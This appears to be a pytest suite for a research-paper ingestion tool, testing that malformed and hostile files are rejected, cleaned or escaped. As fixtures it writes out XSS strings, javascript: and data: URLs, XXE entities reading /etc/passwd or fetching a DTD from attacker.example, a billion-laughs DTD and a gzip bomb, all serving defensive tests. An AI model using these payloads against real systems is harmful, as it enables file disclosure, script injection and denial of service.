"""The bad-input matrix: every kind of broken or hostile input gives a located message, and the rest is read.

Each test writes one small file, reads it with :func:`graphapp.ingest.read_papers` and checks three things:
the message names the file and the line or record, the good records around the bad one still come out,
and nothing unsafe (control characters, over-long text, non-http links) reaches a Paper.
"""

from __future__ import annotations

import codecs
import gzip
import json
import random
import re
from pathlib import Path

import pytest

from graphapp.ingest import read_papers
from graphapp.ingest.sanitize import MAX_ABSTRACT_CHARS, MAX_TITLE_CHARS, TRUNCATION_MARK, safe_http_url
from graphapp.ingest.textio import NOT_UTF8, SNIFF_BYTES
from graphapp.model import IngestError, IngestNotice, Paper

GOOD = {"title": "Good Paper", "abstract": "We train ResNet-50 on ImageNet."}
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff]")


def read(path: Path, fmt: str | None = None) -> tuple[list[Paper], list[IngestError], list[IngestNotice]]:
    items = list(read_papers(path, fmt))
    papers = [item for item in items if isinstance(item, Paper)]
    errors = [item for item in items if isinstance(item, IngestError)]
    notices = [item for item in items if isinstance(item, IngestNotice)]
    assert len(papers) + len(errors) + len(notices) == len(items)
    return papers, errors, notices


def jsonl(path: Path, *records: object) -> Path:
    """Write records one per line; strings are written as they are (for broken lines)."""
    lines = [record if isinstance(record, str) else json.dumps(record) for record in records]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def record(number: int, **fields: object) -> dict[str, object]:
    return {"id": f"p{number}", "title": f"Paper {number}", "abstract": f"Abstract of paper {number}.", **fields}


# -- whole files that are not text -------------------------------------------------------------------


def test_empty_file(tmp_path):
    path = tmp_path / "empty.jsonl"
    path.write_bytes(b"")
    papers, errors, _ = read(path)
    assert papers == [] and [str(e) for e in errors] == [f"{path}: empty file"]


def test_whitespace_only_file(tmp_path):
    path = tmp_path / "blank.csv"
    path.write_bytes(b"\n  \r\n\t\n")
    assert [e.message for e in read(path)[1]] == ["empty file"]


@pytest.mark.parametrize("blank_lines", [5_000, 3 * SNIFF_BYTES])
@pytest.mark.parametrize("compress", [False, True])
def test_records_after_many_blank_lines_are_read(tmp_path, blank_lines, compress):
    """Blank lines beyond the sniffing window (or a read buffer) do not make a file look empty."""
    content = ("\n" * blank_lines + json.dumps(record(1)) + "\n" + json.dumps(record(2, title="Café")) + "\n").encode()
    path = tmp_path / ("padded.jsonl.gz" if compress else "padded.jsonl")
    path.write_bytes(gzip.compress(content) if compress else content)
    papers, errors, _ = read(path)
    assert [p.title for p in papers] == ["Paper 1", "Café"] and errors == []
    assert papers[0].location == f"line {blank_lines + 1}"


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (random.Random(7).randbytes(5000), "NUL bytes"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\n", "PDF document"),
        (b"PK\x03\x04\x14\x00\x06\x00", "ZIP archive"),
        (b"\x89PNG\r\n\x1a\n", "PNG image"),
    ],
)
def test_binary_file_is_one_clear_error(tmp_path, content, says):
    path = tmp_path / "papers.csv"
    path.write_bytes(content)
    papers, errors, _ = read(path)
    assert papers == [] and len(errors) == 1
    assert errors[0].source == str(path) and "binary content" in errors[0].message and says in errors[0].message
    assert errors[0].reason == "unreadable file"


# -- encodings ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["latin-1", "cp1252", "utf-16", "utf-16-be", "utf-8-sig"])
def test_encodings_including_utf16_with_bom(tmp_path, encoding):
    path = tmp_path / "papers.csv"
    text = "id,title,abstract\nc1,Café Müller,Naïve Bayes “quoted” on CIFAR-10.\n"
    if encoding == "latin-1":
        text = text.replace("“", '"').replace("”", '"')
    data = text.encode(encoding)
    if encoding == "utf-16-be":
        data = codecs.BOM_UTF16_BE + data
    path.write_bytes(data)
    papers, errors, notices = read(path)
    single_byte = encoding in ("latin-1", "cp1252")  # read line by line: strict UTF-8, else Windows-1252, reported
    assert errors == [] and [(n.location, n.reason) for n in notices] == ([("line 2", NOT_UTF8)] if single_byte else [])
    assert papers[0].title == "Café Müller" and papers[0].abstract.startswith("Naïve Bayes")


def test_latin1_line_deep_inside_a_utf8_file_is_not_garbled(tmp_path):
    path = tmp_path / "mixed.jsonl"
    padding = [record(n) for n in range(SNIFF_BYTES // 60 + 100)]  # pushes the Latin-1 line past the sniff window
    utf8 = b"".join(json.dumps(item).encode() + b"\n" for item in padding)
    assert len(utf8) > SNIFF_BYTES
    latin1 = '{"id": "late", "title": "Café Müller", "abstract": "Ångström-scale naïveté."}\n'.encode("latin-1")
    utf8_after = '{"id": "after", "title": "Straße", "abstract": "Größe."}\n'.encode()
    path.write_bytes(utf8 + latin1 + utf8_after)
    papers, errors, notices = read(path)
    by_id = {p.id: p for p in papers}
    assert errors == [] and len(papers) == len(padding) + 2
    assert [(n.location, n.reason) for n in notices] == [(f"line {len(padding) + 1}", NOT_UTF8)]
    assert by_id["late"].title == "Café Müller" and by_id["late"].abstract == "Ångström-scale naïveté."
    assert by_id["after"].title == "Straße"


# -- malformed records among good ones -------------------------------------------------------------------


def test_malformed_jsonl_line_in_the_middle(tmp_path):
    path = jsonl(tmp_path / "papers.jsonl", record(1), '{"id": "p2", "title": "Cut off', record(3), "[1, 2]", record(5))
    papers, errors, _ = read(path)
    assert [p.id for p in papers] == ["p1", "p3", "p5"]
    assert [str(e) for e in errors] == [
        f"{path}, line 2: not valid JSON (Invalid control character at column 31)",
        f"{path}, line 4: expected an object with title and abstract, got list",
    ]
    assert papers[1].location == "line 3"


def test_csv_missing_and_extra_columns_and_quoted_newlines(tmp_path):
    path = tmp_path / "papers.csv"
    path.write_text(
        "id,title,abstract,url\n"
        'c1,"Title, with comma","First line\r\nsecond line\nthird ""quoted"" line",https://a.org/x\n'
        "c2,Short row\n"
        "c3,Extra,values,https://b.org,surplus,more\n"
        'c4,"Multi\nline title",Fine abstract.,\n',
        encoding="utf-8",
        newline="",
    )
    papers, errors, _ = read(path)
    assert [p.id for p in papers] == ["c1", "c4"]
    assert papers[0].abstract == 'First line\nsecond line\nthird "quoted" line'
    assert papers[1].title == "Multi line title" and papers[1].location == "line 7"
    assert [str(e) for e in errors] == [
        f"{path}, line 5: missing abstract",
        f"{path}, line 6: 2 more values than header columns",
    ]


@pytest.mark.parametrize(
    ("name", "content", "location"),
    [
        ("a.jsonl", '{"title": "T"}\n{"abstract": "A."}\n{"title": "  ", "abstract": "A."}\n', "line 1"),
        ("a.csv", "title,abstract\nT,\n,A.\n", "line 2"),
        ("a.json", '[{"title": "T"}, {"abstract": "A."}]', "record 1"),
        ("a.bib", "@article{k1, title={T}}\n@article{k2, abstract={A.}}\n", "line 1"),
        (
            "a.xml",
            '<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>T</title></entry>'
            "<entry><summary>A.</summary></entry></feed>",
            "entry 1",
        ),
        ("a", '{"papers": [{"paper": {"title": "T"}}, {"paper": {"summary": "A."}}]}', "record 1"),
    ],
)
def test_records_missing_title_or_abstract(tmp_path, name, content, location):
    path = tmp_path / name
    path.write_text(content + ("\n" if name.endswith("jsonl") else ""), encoding="utf-8")
    papers, errors, _ = read(path)
    assert papers == [] and len(errors) >= 2
    assert errors[0].location == location and "missing" in errors[0].message
    assert {e.reason for e in errors} == {"missing title or abstract"}


def test_title_that_is_not_text_says_so(tmp_path):
    path = jsonl(tmp_path / "p.jsonl", {"id": 7, "title": ["a", "list"], "abstract": "A."}, {"id": 8, **GOOD})
    papers, errors, _ = read(path)
    assert [p.id for p in papers] == ["8"]  # numeric ids are kept as text
    assert errors[0].message == "missing title (list, not text)"


# -- size limits -------------------------------------------------------------------------------------------


def test_ten_megabyte_abstract_is_truncated_with_a_notice(tmp_path):
    huge = ("We scale transformers. " * 460_000)[: 10 * 1024 * 1024]
    path = jsonl(tmp_path / "big.jsonl", record(1), record(2, abstract=huge), record(3))
    papers, errors, notices = read(path)
    assert errors == [] and [p.id for p in papers] == ["p1", "p2", "p3"]
    kept = papers[1].abstract
    assert len(kept) <= MAX_ABSTRACT_CHARS and kept.endswith(TRUNCATION_MARK)
    assert huge.startswith(kept.removesuffix(TRUNCATION_MARK))
    assert [str(n) for n in notices] == [
        f"{path}, line 2: abstract is {len(huge.strip()):,} characters long; kept the first {MAX_ABSTRACT_CHARS:,}"
    ]


def test_title_over_the_limit_skips_the_record(tmp_path):
    path = jsonl(tmp_path / "p.jsonl", record(1, title="word " * MAX_TITLE_CHARS), record(2))
    papers, errors, _ = read(path)
    assert [p.id for p in papers] == ["p2"]
    assert errors[0].location == "line 1" and errors[0].reason == "title too long"


def test_single_one_million_character_line(tmp_path):
    """One line of a million characters: as an hf-text abstract without title, as JSON, and as garbage."""
    million = "x" * 1_000_000
    text_page = tmp_path / "page.txt"
    text_page.write_text(f"Title A\n\nAbstract a.\n\n{million}.\n\nTitle B\n\nAbstract b.\n", encoding="utf-8")
    papers, errors, _ = read(text_page)
    assert [p.title for p in papers] == ["Title A", "Title B"]
    assert [str(e) for e in errors] == [f"{text_page}, line 5: abstract without a title line before it"]

    as_json = jsonl(tmp_path / "one.jsonl", record(1, abstract=million))
    papers, errors, notices = read(as_json)
    assert len(papers[0].abstract) <= MAX_ABSTRACT_CHARS and notices[0].reason == "abstract truncated"

    garbage = jsonl(tmp_path / "garbage.jsonl", record(1), "{" + million, record(3))
    papers, errors, _ = read(garbage)
    assert [p.id for p in papers] == ["p1", "p3"]
    assert errors[0].location == "line 2" and len(str(errors[0])) < 200  # the message does not echo the line


def test_one_million_character_field_names_and_ids_are_dropped(tmp_path):
    long_value = "a" * 1_000_000
    path = jsonl(tmp_path / "p.jsonl", record(1, id=long_value, authors=[long_value, "Ada"], date=long_value))
    papers, errors, notices = read(path)
    assert errors == [] and papers[0].id.startswith("title-") and papers[0].authors == ["Ada"]
    assert papers[0].date is None
    assert {n.reason for n in notices} == {"over-long field dropped"} and len(notices) == 3


# -- characters -----------------------------------------------------------------------------------------------


def test_nul_and_control_characters_are_removed_and_counted(tmp_path):
    path = jsonl(
        tmp_path / "p.jsonl",
        record(1, title="Deep\u0000 Learning\u001b[31m", abstract="Bell\u0007 and\u000cform\u0085feed \ud800."),
        record(2),
    )
    papers, errors, notices = read(path)
    assert errors == [] and len(papers) == 2
    assert papers[0].title == "Deep Learning[31m"
    assert papers[0].abstract == "Bell and form feed \ufffd."
    assert [str(n) for n in notices] == [f"{path}, line 1: removed 6 control or invalid characters (NUL, escape, ...)"]


def test_raw_nul_bytes_after_the_sniff_window(tmp_path):
    path = tmp_path / "p.csv"
    rows = "".join(f"r{n},Title {n},Abstract {n}.\n" for n in range(SNIFF_BYTES // 20))
    path.write_bytes(b"id,title,abstract\n" + rows.encode() + b"nul,Ti\x00tle,Ab\x00\x01stract.\n")
    papers, errors, notices = read(path)
    assert errors == [] and papers[-1].title == "Title" and papers[-1].abstract == "Abstract."
    assert notices[0].location == f"line {len(papers) + 1}"


RTL_TITLE = "نموذج لغوي 🤖 for Ελληνικά — e\u0301tude \u202eevil\u202c 👩\u200d🔬"
RTL_ABSTRACT = "שלום עולם. Cafe\u0301 🇫🇷 uses Z\u0351\u0352a\u0353lgo text."


def test_rtl_emoji_and_combining_characters_are_kept_exactly(tmp_path):
    as_json = jsonl(tmp_path / "p.jsonl", record(1, title=RTL_TITLE, abstract=RTL_ABSTRACT))
    as_csv = tmp_path / "p.csv"
    as_csv.write_text(f"title,abstract\n{RTL_TITLE},{RTL_ABSTRACT}\n", encoding="utf-8")
    for path in (as_json, as_csv):
        papers, errors, notices = read(path)
        assert errors == [] and notices == []
        assert (papers[0].title, papers[0].abstract) == (RTL_TITLE, RTL_ABSTRACT)


def test_html_and_script_are_kept_as_text(tmp_path):
    title = '<script>alert("t")</script><img src=x onerror=alert(1)> {{7*7}} href'
    abstract = "</script><b>bold</b> &amp; &lt;tag&gt; <a href='javascript:alert(1)'>x</a>"
    papers, errors, notices = read(jsonl(tmp_path / "p.jsonl", record(1, title=title, abstract=abstract)))
    assert errors == [] and notices == []
    assert (papers[0].title, papers[0].abstract) == (title, abstract)


# -- links -------------------------------------------------------------------------------------------------------

HOSTILE_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "https:alert(1)",
    "https://",
    'https://"onmouseover="alert(1)',
    "https://<script>/",
    "https://[unclosed/",
]


@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_non_http_urls_never_survive(url):
    assert safe_http_url(url) is None


@pytest.mark.parametrize(
    ("url", "safe"),
    [
        ("https://github.com/a/b", "https://github.com/a/b"),
        ("HTTP://Example.org/Path?q=1#frag", "http://Example.org/Path?q=1#frag"),
        ('https://x.org/a"onmouseover="alert(1)', "https://x.org/a%22onmouseover=%22alert(1)"),
        ("https://x.org/<script>alert(1)</script>", "https://x.org/%3Cscript%3Ealert(1)%3C/script%3E"),
        ("https://x.org/it's `odd` {x}", "https://x.org/it%27s%20%60odd%60%20%7Bx%7D"),
        ("https://münchen.de/straße", "https://münchen.de/straße"),
    ],
)
def test_http_urls_are_kept_with_attribute_breaking_characters_encoded(url, safe):
    assert safe_http_url(url) == safe


def test_hostile_urls_in_url_and_link_fields_are_dropped_with_notices(tmp_path):
    items = [
        {"paper": {"id": "2501.00001", "title": "T1", "summary": "S1.", "githubRepo": "javascript:alert(1)"}},
        {"paper": {"id": "2501.00002", "title": "T2", "summary": "S2.", "projectPage": "https://ok.org/<b>"}},
    ]
    api = tmp_path / "daily.json"
    api.write_text(json.dumps(items), encoding="utf-8")
    papers, errors, notices = read(api)
    assert errors == [] and papers[0].links == [] and papers[1].links[0].url == "https://ok.org/%3Cb%3E"
    assert [str(n) for n in notices] == [
        f"{api}, record 1: code link 'javascript:alert(1)' is not an http(s) link; dropped it"
    ]

    lines = jsonl(tmp_path / "p.jsonl", *(record(n, url=url) for n, url in enumerate(HOSTILE_URLS)))
    papers, errors, notices = read(lines)
    assert errors == [] and all(p.url is None for p in papers)
    assert [n.location for n in notices if n.reason == "non-http(s) link dropped"] == [
        f"line {n}" for n in range(1, len(HOSTILE_URLS) + 1)
    ]


# -- structure attacks -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["deep.json", "deep"])
def test_deeply_nested_json_document(tmp_path, name):
    path = tmp_path / name
    path.write_text('{"papers": ' + "[" * 200_000 + "]" * 200_000 + "}", encoding="utf-8")
    papers, errors, _ = read(path)
    assert papers == [] and [str(e) for e in errors] == [f"{path}: not valid JSON (nested more than 1000 levels deep)"]


def test_deeply_nested_jsonl_line_and_huge_number(tmp_path):
    path = jsonl(
        tmp_path / "p.jsonl",
        record(1),
        '{"title": "T", "abstract": ' + "[" * 100_000 + "]" * 100_000 + "}",
        '{"title": "T", "abstract": "A.", "n": ' + "9" * 10_000 + "}",
        record(4),
    )
    papers, errors, _ = read(path)
    assert [p.id for p in papers] == ["p1", "p4"]
    assert [(e.location, e.message) for e in errors] == [
        ("line 2", "not valid JSON (nested more than 1000 levels deep)"),
        ("line 3", "not valid JSON (a number too long to read)"),
    ]


def test_bibtex_unbalanced_braces(tmp_path):
    path = tmp_path / "refs.bib"
    path.write_text(
        "@article{a, title={Fine A}, abstract={We use {BERT}.}}\n"
        "@article{b, title={Unclosed {group}, abstract={Never closes.}\n"
        "@article{c, title={Fine C}, abstract={Closes.}}\n"
        "@article{d, title=Fine}}, abstract={Stray brace.}}\n"
        '@article{e, title="Open quote, abstract={x}}\n'
        "@article{f, title={Fine F}, abstract={Last.}}\n",
        encoding="utf-8",
    )
    papers, errors, _ = read(path)
    assert [p.title for p in papers] == ["Fine A", "Fine C", "Fine F"]
    assert [(e.location, e.message) for e in errors] == [
        ("line 2", "@article entry: unbalanced braces: no closing '}'"),
        ("line 4", "entry 'd' is missing abstract"),  # the stray brace closed the entry early
        ("line 5", "@article entry: unbalanced braces: no closing '\"'"),
    ]


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE feed [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>',
        '<!DOCTYPE feed [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE feed [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>',
    ],
    ids=["billion-laughs", "external-entity", "parameter-entity"],
)
def test_xml_entity_tricks_are_refused(tmp_path, doctype):
    path = tmp_path / "feed.xml"
    path.write_text(
        f'<?xml version="1.0"?>\n{doctype}\n<feed xmlns="http://www.w3.org/2005/Atom">'
        "<entry><title>&d;</title><summary>S.</summary></entry></feed>\n",
        encoding="utf-8",
    )
    papers, errors, _ = read(path)
    assert papers == [] and len(errors) == 1 and errors[0].source == str(path)
    assert errors[0].reason in {"unsafe XML refused", "not well-formed XML"}
    assert "root:" not in str(errors[0])  # nothing of /etc/passwd leaks into the message


def test_unreadable_path_is_an_error_not_a_crash(tmp_path):
    directory = tmp_path / "a_directory.jsonl"
    directory.mkdir()
    papers, errors, _ = read(directory)
    assert papers == [] and errors[0].source == str(directory) and errors[0].reason == "unreadable file"


def test_nothing_unsafe_reaches_a_paper(tmp_path):
    """Every field of every paper from a file full of hostile values is clean, bounded and http(s)-only."""
    hostile = ["\x00\x1b\x7f", "javascript:alert(1)", "<script>x</script>", "\ud800", "a" * 30_000]
    records = [
        record(n, title=f"T{n} {h[:200]}", abstract=f"A {h}", url=h, authors=[h, "Ok Name"], date=h)
        for n, h in enumerate(hostile)
    ]
    papers, errors, _ = read(jsonl(tmp_path / "hostile.jsonl", *records))
    assert errors == [] and len(papers) == len(hostile)
    for paper in papers:
        for text in (paper.id, paper.title, paper.abstract, paper.date or "", *paper.authors):
            assert not CONTROL.search(text)
        assert len(paper.abstract) <= MAX_ABSTRACT_CHARS
        assert paper.url is None or paper.url.startswith(("http://", "https://"))


# -- through the pipeline into the store ------------------------------------------------------------------------


class QuietExtractor:
    """Finds nothing, and fails on one marked abstract: stands for an extractor bug met on one odd record."""

    def survey(self, texts):
        from extractors.entities import Survey

        for _ in texts:
            pass
        return Survey()

    def learn_from(self, survey):
        return 0

    def extract_paper(self, title, abstract):
        if "EXPLODE" in title + abstract:
            raise IndexError("string index out of range")
        return [], []


def ingest(path: Path, db: Path):
    from graphapp.pipeline import ingest_file
    from graphapp.store import Store

    with Store(db) as store:
        return ingest_file(store, path, extractor=QuietExtractor())


def stored_rows(db: Path) -> dict[str, tuple]:
    import sqlite3

    from graphapp.store.schema import unpack_text

    with sqlite3.connect(db) as connection:
        assert connection.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        rows = connection.execute("SELECT id, title, abstract, url, authors, date FROM papers").fetchall()
    return {pid: (title, unpack_text(abstract), *rest) for pid, title, abstract, *rest in rows}


def test_summary_counts_what_was_skipped_and_why(tmp_path):
    path = jsonl(
        tmp_path / "mixed.jsonl",
        record(1),
        "not json",
        record(3, abstract=""),
        "{broken",
        record(5, url="javascript:alert(1)"),
        record(6, abstract="x " * MAX_ABSTRACT_CHARS),
        record(7, abstract="Boom. EXPLODE"),
        record(1, title="Paper 1, revised"),
    )
    report = ingest(path, tmp_path / "store.sqlite")
    assert report.papers == 3
    assert report.summary() == (
        f"{path}: 3 papers stored; 4 records skipped (2 not valid JSON, 1 missing title or abstract, "
        "1 extraction failed); 3 notices (1 non-http(s) link dropped, 1 abstract truncated, "
        "1 duplicate id (replaced))"
    )
    assert [str(e) for e in report.errors][3] == (
        f"{path}, line 7: extraction failed (IndexError: string index out of range); please report this record"
    )
    assert set(stored_rows(tmp_path / "store.sqlite")) == {"p1", "p5", "p6"}


def test_duplicate_ids_with_different_content_name_both_records(tmp_path):
    path = jsonl(
        tmp_path / "dups.jsonl",
        record(1),
        record(2),
        record(1, abstract="A different abstract."),
        record(2),
    )
    db = tmp_path / "store.sqlite"
    report = ingest(path, db)
    assert report.papers == 2 and report.errors == []
    assert [str(n) for n in report.notices] == [
        f"{path}, line 3: paper id 'p1' was already read at line 1 with other content; this later record replaces it",
        f"{path}, line 4: paper id 'p2' repeats the identical record at line 2; stored once",
    ]
    assert stored_rows(db)["p1"][1] == "A different abstract."


def test_hostile_text_is_stored_clean_or_verbatim(tmp_path):
    """Control characters never reach the store; HTML, RTL and emoji are stored exactly as given."""
    html_title = '<script>alert("x")</script> "quoted" & <b>'
    path = jsonl(
        tmp_path / "hostile.jsonl",
        record(1, title=html_title, abstract=RTL_ABSTRACT, url="https://x.org/a'b<c>"),
        record(2, title="Nul\u0000 title", abstract="Esc\u001b abstract\u0000.", url="javascript:alert(1)"),
        record(3, title=RTL_TITLE, abstract="data:text/html,<script>alert(1)</script>", authors=["\u0007Ada"]),
    )
    db = tmp_path / "store.sqlite"
    ingest(path, db)
    rows = stored_rows(db)
    assert rows["p1"][:3] == (html_title, RTL_ABSTRACT, "https://x.org/a%27b%3Cc%3E")
    assert rows["p2"][:3] == ("Nul title", "Esc abstract.", None)
    assert rows["p3"][0] == RTL_TITLE and rows["p3"][3] == '["Ada"]'
    for row in rows.values():
        assert not any(CONTROL.search(value) for value in row if isinstance(value, str))


@pytest.mark.integration
def test_cli_lists_each_problem_then_the_summary(tmp_path, capsys):
    from graphapp.cli import main

    path = jsonl(tmp_path / "p.jsonl", record(1), "oops", record(3, url="data:text/html,x"))
    db = tmp_path / "store.sqlite"
    assert main(["ingest", str(path), "--db", str(db)]) == 1
    out, err = capsys.readouterr()
    assert f"  skipped: {path}, line 2: not valid JSON (Expecting value at column 1)" in err
    assert f"  note: {path}, line 3: url 'data:text/html,x' is not an http(s) link; dropped it" in err
    assert f"{path}: 2 papers stored; 1 record skipped (1 not valid JSON); 1 notice (1 non-http(s) link dropped)" in out


def test_size_limit_counts_decompressed_bytes_and_stops_early(tmp_path):
    """A gzip bomb is refused after reading just past the limit; the source name replaces the path."""
    import gzip

    bomb = tmp_path / "bomb.jsonl.gz"
    with gzip.open(bomb, "wb") as packed:
        packed.write(json.dumps(record(1)).encode() + b"\n" + b" " * 30_000_000)  # 30 MB of spaces
    assert bomb.stat().st_size < 100_000
    items = list(read_papers(bomb, source="upload.jsonl.gz", max_bytes=1_000_000))
    assert [str(item) for item in items] == ["upload.jsonl.gz: more than the 1,000,000 bytes allowed once decompressed"]

    plain = jsonl(tmp_path / "p.jsonl", record(1), record(2))
    assert [str(e) for e in read_papers(plain, max_bytes=50)] == [f"{plain}: more than the 50 bytes allowed"]
    papers = [p for p in read_papers(plain, source="mine.jsonl", max_bytes=10_000) if isinstance(p, Paper)]
    assert [p.source for p in papers] == ["mine.jsonl", "mine.jsonl"]


def test_papers_read_any_other_way_pass_the_same_checks(tmp_path):
    """ingest_papers (used by fetch) cleans, bounds and link-checks papers exactly as a file's."""
    from graphapp.pipeline import ingest_papers
    from graphapp.store import Store

    fetched = [
        Paper("f1", "Fetched\x00 title", "Abstract\x1b.", url="javascript:alert(1)", location="record 1"),
        Paper("f2", "Huge", "word " * MAX_ABSTRACT_CHARS, url="https://ok.org/<x>", location="record 2"),
        IngestError("api", "page 2", "HTTP 500", "fetch failed"),
    ]
    db = tmp_path / "store.sqlite"
    with Store(db) as store:
        report = ingest_papers(store, fetched, source="api", extractor=QuietExtractor())
    assert report.papers == 2 and [e.message for e in report.errors] == ["HTTP 500"]
    assert sorted(n.reason for n in report.notices) == [
        "abstract truncated",
        "control characters removed",
        "non-http(s) link dropped",
    ]
    rows = stored_rows(db)
    assert rows["f1"][:3] == ("Fetched title", "Abstract.", None)
    assert rows["f2"][2] == "https://ok.org/%3Cx%3E" and len(rows["f2"][1]) <= MAX_ABSTRACT_CHARS
